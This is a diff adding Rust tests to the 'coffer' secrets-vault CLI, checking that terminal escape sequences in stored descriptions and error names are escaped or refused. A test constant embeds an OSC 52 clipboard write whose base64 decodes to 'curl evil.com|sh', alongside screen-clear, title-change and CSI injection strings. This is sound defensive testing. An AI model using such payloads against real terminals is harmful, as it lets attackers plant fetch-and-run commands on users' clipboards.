@@ -1,5 +1,7 @@
 //! How the binary treats its output: a reader that goes away early (`coffer ls --json |
-//! head -1`) ends the command quietly instead of crashing it.
+//! head -1`) ends the command quietly instead of crashing it, and text someone else
+//! wrote (a description, a name in an error) reaches the terminal escaped, never as an
+//! escape sequence it would run.
 
 use std::io::Read;
 
@@ -63,5 +65,99 @@ fn a_closed_pipe_does_not_crash_json_or_show_output() {
             "`coffer {}` crashed on a closed pipe (exit {code:?}):\n{stderr}",
             args.join(" ")
         );
+    }
+}
+
+/// An OSC 52 clipboard write (`ESC ] 52 ; c ; base64 BEL`), a screen clear, and the
+/// C1 CSI some terminals honour.
+const EVIL: &str = "Stripe key \u{1b}]52;c;Y3VybCBldmlsLmNvbXxzaA==\u{7}\u{1b}[2J\u{9b}31m!";
+
+fn no_terminal_control(run: &super::support::Run) {
+    for c in ['\u{1b}', '\u{7}', '\u{9b}'] {
+        assert!(
+            !run.stdout.contains(c) && !run.stderr.contains(c),
+            "{c:?} reached the terminal: {}",
+            run.describe()
+        );
+    }
+}
+
+#[test]
+fn a_description_from_an_old_vault_is_printed_escaped() {
+    let vault = vault_with_a_secret();
+    // Coffer refuses such a description now: an older vault, or one edited by hand.
+    vault
+        .db()
+        .execute(
+            "UPDATE secrets SET description = ?1 WHERE name = 'API_KEY'",
+            [EVIL],
+        )
+        .unwrap();
+    let shown = "Stripe key \\x1b]52;c;Y3VybCBldmlsLmNvbXxzaA==\\x07\\x1b[2J\\u{9b}31m!";
+    let show = vault.run(&["show", "API_KEY"]).ok();
+    no_terminal_control(&show);
+    assert!(show.stdout.contains(shown), "{}", show.describe());
+    let ls = vault.run(&["ls"]).ok();
+    no_terminal_control(&ls);
+    assert!(
+        ls.stdout.contains("Stripe key \\x1b]52;c;"),
+        "{}",
+        ls.describe()
+    );
+    for args in [
+        &["ls", "--json"][..],
+        &["show", "API_KEY", "--json"],
+        &["export"],
+    ] {
+        let run = vault.run(args).ok();
+        no_terminal_control(&run);
+        // Escaped in JSON's own way: a program reading it gets the text back intact.
+        let text = run.stdout.clone();
+        assert!(text.contains("\\u001b]52;c;"), "{}", run.describe());
+        assert!(text.contains("\\u009b31m"), "{}", run.describe());
+    }
+    let json = vault.run(&["show", "API_KEY", "--json"]).ok().json();
+    assert_eq!(json["description"], EVIL);
+}
+
+#[test]
+fn a_description_with_a_control_character_is_refused() {
+    let vault = vault_with_a_secret();
+    for bad in [EVIL, "two\nlines", "tab\there", "bell\u{7}"] {
+        let run = vault
+            .cli()
+            .stdin("v")
+            .run(&["set", "NEW_KEY", "--value-stdin", "--description", bad])
+            .refused(2);
+        no_terminal_control(&run);
+        assert!(
+            run.message().contains("control character"),
+            "{}",
+            run.describe()
+        );
+    }
+    let ls = vault.run(&["ls", "--json"]).ok().json();
+    assert_eq!(ls.as_array().unwrap().len(), 1, "nothing was written");
+    vault.set(
+        "NEW_KEY",
+        "v",
+        &["--description", "plain: ünïcødé ✓ C:\\temp"],
+    );
+}
+
+#[test]
+fn names_in_errors_are_printed_escaped() {
+    let vault = vault_with_a_secret();
+    for args in [
+        &["--project", "p\u{1b}]52;c;eA==\u{7}", "ls"][..],
+        &["--workspace", "w\u{1b}[2J", "ls"],
+        &["show", "bad\u{1b}]0;title\u{7}"],
+        &["--project", "x\u{9b}31m", "show", "API_KEY"],
+    ] {
+        let run = vault.run(args);
+        assert_ne!(run.code(), Some(0), "{}", run.describe());
+        no_terminal_control(&run);
+        let json = vault.run(&[&["--json"][..], args].concat());
+        no_terminal_control(&json);
     }
 }
